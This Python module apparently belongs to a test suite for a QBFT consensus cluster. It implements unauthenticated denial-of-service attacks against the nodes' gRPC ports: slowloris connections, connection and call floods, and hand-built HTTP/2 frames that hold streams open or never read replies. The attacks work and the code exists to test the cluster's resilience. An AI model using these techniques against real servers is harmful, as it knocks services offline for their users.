"""What anybody can do to a node who can reach its ports, with no key at all."""

from __future__ import annotations

import asyncio
import contextlib
import ssl
from collections.abc import AsyncIterator, Callable, Coroutine, Iterable, Sequence

from attacks.liar import Liar
from grpc import aio

from qbft.client.pinned import PINNED
from qbft.cluster import TLS_NAME
from qbft.wire.v1 import decision_pb2 as pb
from qbft.wire.v1 import messages_pb2 as messages
from qbft.wire.v1.decision_pb2_grpc import DecisionServiceStub

PATH = "/qbft.v1.DecisionService/GetDecision"
PROPOSE_PATH = "/qbft.v1.DecisionService/Propose"
STREAM_PATH = "/qbft.v1.DecisionService/ProposeStream"
UNARY_PATHS = (PATH, PROPOSE_PATH, "/qbft.v1.DecisionService/Watch", "/grpc.health.v1.Health/Check")
REFLECTION_PATH = "/grpc.reflection.v1alpha.ServerReflection/ServerReflectionInfo"
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE = 0, 1, 3, 4, 6, 8
INITIAL_WINDOW_SIZE = 4
END_STREAM, END_HEADERS, ACK = 1, 4, 1
ACKNOWLEDGED = 1 << 8
FRAME_BYTES = 16_384
REQUEST_BYTES = 1_300_000
HELD_CALLS = 1_250
UNFINISHED_CALLS = 200
UNREAD_STREAMS = 30
OPENED_AT_ONCE, REPLACED_AT_ONCE = 32, 8
PAUSE_SECONDS = 0.25
LARGE_BYTES = (1 << 20) - 1_024
UNREAD_CALLS = 400
LORIS_CONNECTIONS = 200
AT_ONCE = 16
LARGE_TOPIC = "attack/unread"


def _addresses(liar: Liar) -> list[tuple[str, int]]:
    """Where the other nodes listen, for clients and for peers."""
    found = []
    for peer in liar.peers:
        validator = liar.cluster.validators[peer]
        for address in (validator.client, validator.peer):
            host, _, port = address.rpartition(":")
            found.append((host.strip("[]"), int(port)))
    return found


def _client_tls(liar: Liar, peer: int) -> ssl.SSLContext:
    """The TLS of a plain client of that node."""
    context = ssl.create_default_context(cadata=liar.cluster.validators[peer].tls_certificate)
    context.set_alpn_protocols(["h2"])
    return context


async def _in_all(work: Iterable[Coroutine[None, None, None]]) -> None:
    """Do all of it at once."""
    async with asyncio.TaskGroup() as tasks:
        for one in work:
            tasks.create_task(one)


async def slow_streams(liar: Liar) -> None:
    """Connections that send the beginning of a handshake, a byte a second, or nothing."""

    async def crawl(host: str, port: int) -> None:
        while True:
            with contextlib.suppress(OSError):
                reader, writer = await asyncio.open_connection(host, port)
                try:
                    for byte in b"\x16\x03\x01\x02\x00\x01" * 100:
                        writer.write(bytes([byte]))
                        await writer.drain()
                        if reader.at_eof():
                            break
                        await asyncio.sleep(1)
                finally:
                    writer.close()
            await asyncio.sleep(0.1)

    addresses = _addresses(liar)
    await _in_all(
        [crawl(*a) for a in addresses for _ in range(LORIS_CONNECTIONS // len(addresses))]
    )


async def connection_storm(liar: Liar) -> None:
    """Clients that connect, ask for the status and go, as fast as that can be done."""

    async def come_and_go(peer: int) -> None:
        address = liar.cluster.validators[peer].client
        while True:
            credentials = liar.plain_credentials(peer)
            async with aio.secure_channel(address, credentials, PINNED) as channel:
                with contextlib.suppress(aio.AioRpcError):
                    await DecisionServiceStub(channel).GetStatus(pb.GetStatusRequest(), timeout=5)

    await _in_all([come_and_go(peer) for peer in liar.peers for _ in range(AT_ONCE // 4)])


async def cheap_calls(liar: Liar) -> None:
    """Calls that cost their caller next to nothing, as many as will be answered."""

    async def ask(stub: DecisionServiceStub) -> None:
        while True:
            with contextlib.suppress(aio.AioRpcError):
                await stub.GetStatus(pb.GetStatusRequest(), timeout=5)

    async def connect(peer: int) -> None:
        credentials = liar.plain_credentials(peer)
        address = liar.cluster.validators[peer].client
        own = [*PINNED, ("grpc.use_local_subchannel_pool", 1)]
        async with aio.secure_channel(address, credentials, own) as channel:
            await _in_all([ask(DecisionServiceStub(channel)) for _ in range(AT_ONCE)])

    await _in_all([connect(peer) for peer in liar.peers for _ in range(AT_ONCE // 4)])


async def half_handshakes(liar: Liar) -> None:
    """Connections that are closed before their handshake, as fast as that can be done."""

    async def knock(host: str, port: int) -> None:
        while True:
            with contextlib.suppress(OSError):
                _, writer = await asyncio.open_connection(host, port)
                writer.write(b"GET / HTTP/1.1\r\n\r\n")
                writer.close()
            await asyncio.sleep(0.001)

    await _in_all([knock(*address) for address in _addresses(liar)])


async def unread_replies(liar: Liar) -> None:
    """Hundreds of GetDecision for a value of 1 MiB, on connections that take not a byte of it."""
    await _decide_large(liar)
    await _in_all([_never_read(liar, peer) for peer in liar.peers])


async def calls_without_a_request(liar: Liar) -> None:
    """Ten thousand calls at each node that have begun, and whose requests never come."""
    await _hold(liar, UNARY_PATHS, b"", connections=2, calls=HELD_CALLS)


async def all_but_the_last_byte(liar: Liar) -> None:
    """Hundreds of requests as large as may be, of which the last byte never comes."""
    request = _framed(bytes(REQUEST_BYTES))[:-1]
    await _hold(liar, [PROPOSE_PATH], request, connections=2, calls=UNFINISHED_CALLS)


async def unread_streams(liar: Liar) -> None:
    """Streams that ask for a large decision as often as they can, and take not one of them."""
    await _decide_large(liar)
    proposal = messages.Proposal(
        instance=messages.InstanceId(topic=LARGE_TOPIC, height=0), value=bytes(LARGE_BYTES)
    )
    request = _framed(pb.ProposeStreamRequest(id=1, proposal=proposal).SerializeToString())
    await _hold(liar, [STREAM_PATH], 8 * request, connections=4, calls=UNREAD_STREAMS)


async def no_requests(liar: Liar) -> None:
    """Bytes that are no message, asked of every service, as fast as that can be done."""

    async def babble(peer: int, path: str) -> None:
        credentials = liar.plain_credentials(peer)
        address = liar.cluster.validators[peer].client
        async with aio.secure_channel(address, credentials, PINNED) as channel:
            while True:
                asked = channel.stream_stream(path)(timeout=5)
                with contextlib.suppress(aio.AioRpcError, asyncio.InvalidStateError):
                    await asked.write(b"\xff\xff\xff\x0a")
                    await asked.code()

    paths = (*UNARY_PATHS, STREAM_PATH, REFLECTION_PATH)
    await _in_all([babble(peer, path) for peer in liar.peers for path in paths])


async def _hold(
    liar: Liar, paths: Sequence[str], sent: bytes, *, connections: int, calls: int
) -> None:
    """Connections to each node for each path, with so many calls of which no more is sent.

    It is under way once the nodes have taken of each connection what they take at all.
    """
    one_each = [(peer, path) for peer in liar.peers for path in paths for _ in range(connections)]
    missing = set(range(len(one_each)))

    def stands(number: int) -> None:
        missing.discard(number)
        if not missing:
            liar.is_under_way.set()

    async def one(number: int, peer: int, path: str) -> None:
        while True:
            with contextlib.suppress(OSError, asyncio.IncompleteReadError):
                async with _connected(liar, peer) as connection:
                    await connection.hold(path, calls, sent, lambda: stands(number))
            await asyncio.sleep(PAUSE_SECONDS)

    await _in_all([one(number, *each) for number, each in enumerate(one_each)])


@contextlib.asynccontextmanager
async def _connected(liar: Liar, peer: int) -> AsyncIterator[_Connection]:
    """A connection to where a node listens for clients."""
    host, _, port = liar.cluster.validators[peer].client.rpartition(":")
    reader, writer = await asyncio.open_connection(
        host, int(port), ssl=_client_tls(liar, peer), server_hostname=TLS_NAME
    )
    try:
        yield _Connection(reader, writer)
    finally:
        writer.transport.abort()


class _Connection:
    """One on which the other side may send nothing, and is sent what it takes (RFC 9113, 5.2)."""

    def __init__(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        self._reader = reader
        self._writer = writer
        self._initial = self._whole = 65_535
        self._windows: dict[int, int] = {}
        self._left: dict[int, memoryview] = {}
        self._next = 1

    async def hold(self, path: str, calls: int, sent: bytes, stands: Callable[[], None]) -> None:
        """Have so many calls open for ever, and send of each what is taken of it.

        `stands` is told when a round trip has brought neither more calls nor more room. From then
        on those that end are replaced, so many at a time.
        """
        await self._round_trip(_greeting())
        at_once = OPENED_AT_ONCE
        while True:
            open_before = len(self._left)
            self._open(path, sent, min(at_once, calls - open_before))
            is_taken = True
            while is_taken:
                is_taken = await self._send() > 0
                await self._round_trip(_frame(SETTINGS, 0, 0, b""))
            if len(self._left) <= open_before:
                stands()
                at_once = REPLACED_AT_ONCE
            await asyncio.sleep(PAUSE_SECONDS)

    def _open(self, path: str, sent: bytes, calls: int) -> None:
        """Send the headers of so many calls."""
        for _ in range(calls):
            self._writer.write(_frame(HEADERS, END_HEADERS, self._next, _headers(path)))
            self._windows[self._next] = self._initial
            self._left[self._next] = memoryview(sent)
            self._next += 2

    async def _round_trip(self, settings: bytes) -> None:
        """Read until the other side has heeded these, and so all that it was sent before."""
        self._writer.write(settings)
        while await self._listen() != SETTINGS | ACKNOWLEDGED:
            pass

    async def _send(self) -> int:
        """What the windows let through, of one call after the other; how many bytes that was."""
        total = 0
        for stream, left in self._left.items():
            while (size := min(len(left), self._whole, self._windows[stream], FRAME_BYTES)) > 0:
                self._writer.write(_frame(DATA, 0, stream, bytes(left[:size])))
                self._left[stream] = left = left[size:]  # noqa: PLW2901
                self._whole -= size
                self._windows[stream] -= size
                total += size
                await self._writer.drain()
        return total

    async def _listen(self) -> int:
        """Read a frame, and heed it; gives of which kind it was."""
        head = await self._reader.readexactly(9)
        payload = await self._reader.readexactly(int.from_bytes(head[:3], "big"))
        kind, flags, stream = head[3], head[4], int.from_bytes(head[5:], "big")
        if kind == SETTINGS and flags & ACK:
            return SETTINGS | ACKNOWLEDGED
        if kind == SETTINGS:
            self._set(payload)
            self._writer.write(_frame(SETTINGS, ACK, 0, b""))
        elif kind == PING and not flags & ACK:
            self._writer.write(_frame(PING, ACK, 0, payload))
        elif kind == WINDOW_UPDATE and not stream:
            self._whole += int.from_bytes(payload, "big")
        elif kind == WINDOW_UPDATE and stream in self._windows:
            self._windows[stream] += int.from_bytes(payload, "big")
        elif kind == RST_STREAM:
            self._windows.pop(stream, None)
            self._left.pop(stream, None)
        return kind

    def _set(self, payload: bytes) -> None:
        for start in range(0, len(payload), 6):
            name, value = payload[start : start + 2], payload[start + 2 : start + 6]
            if int.from_bytes(name, "big") == INITIAL_WINDOW_SIZE:
                more = int.from_bytes(value, "big") - self._initial
                self._initial += more
                self._windows = {stream: size + more for stream, size in self._windows.items()}


async def _decide_large(liar: Liar) -> None:
    """Have a large value decided, as any client of an open topic may."""
    peer = liar.peers[0]
    proposal = messages.Proposal(
        instance=messages.InstanceId(topic=LARGE_TOPIC, height=0), value=bytes(LARGE_BYTES)
    )
    credentials = liar.plain_credentials(peer)
    address = liar.cluster.validators[peer].client
    async with aio.secure_channel(address, credentials, PINNED) as channel:
        with contextlib.suppress(aio.AioRpcError):
            await DecisionServiceStub(channel).Propose(
                pb.ProposeRequest(proposal=proposal), timeout=60
            )


async def _never_read(liar: Liar, peer: int) -> None:
    host, _, port = liar.cluster.validators[peer].client.rpartition(":")
    request = pb.GetDecisionRequest(instance=messages.InstanceId(topic=LARGE_TOPIC, height=0))
    context = _client_tls(liar, peer)
    writers = []
    try:
        while True:
            with contextlib.suppress(OSError, ssl.SSLError):
                _, writer = await asyncio.open_connection(
                    host, int(port), ssl=context, server_hostname=TLS_NAME, limit=1_024
                )
                writers.append(writer)
                writer.write(_greeting())
                for number in range(UNREAD_CALLS):
                    writer.write(_call(2 * number + 1, request.SerializeToString()))
                await writer.drain()
            if len(writers) > AT_ONCE:
                writers.pop(0).close()
            await asyncio.sleep(0.5)
    finally:
        for writer in writers:
            writer.close()


def _frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    """One frame of HTTP/2 (RFC 9113, section 4.1)."""
    return (
        len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload
    )


def _greeting() -> bytes:
    """The preface of a connection on which the other side may send no data at all."""
    window = INITIAL_WINDOW_SIZE.to_bytes(2, "big") + bytes(4)
    return PREFACE + _frame(SETTINGS, 0, 0, window)


def _headers(path: str) -> bytes:
    """Those of a call of gRPC, as literals that are not indexed (RFC 7541, 6.2.2)."""
    headers = {
        ":method": "POST",
        ":scheme": "https",
        ":path": path,
        ":authority": TLS_NAME,
        "te": "trailers",
        "content-type": "application/grpc",
    }
    return b"".join(
        b"\x00" + bytes([len(name)]) + name.encode() + bytes([len(value)]) + value.encode()
        for name, value in headers.items()
    )


def _framed(message: bytes) -> bytes:
    """A message of gRPC, with its length before it."""
    return b"\x00" + len(message).to_bytes(4, "big") + message


def _call(stream: int, message: bytes) -> bytes:
    """A unary call of gRPC."""
    return _frame(HEADERS, END_HEADERS, stream, _headers(PATH)) + _frame(
        DATA, END_STREAM, stream, _framed(message)
    )
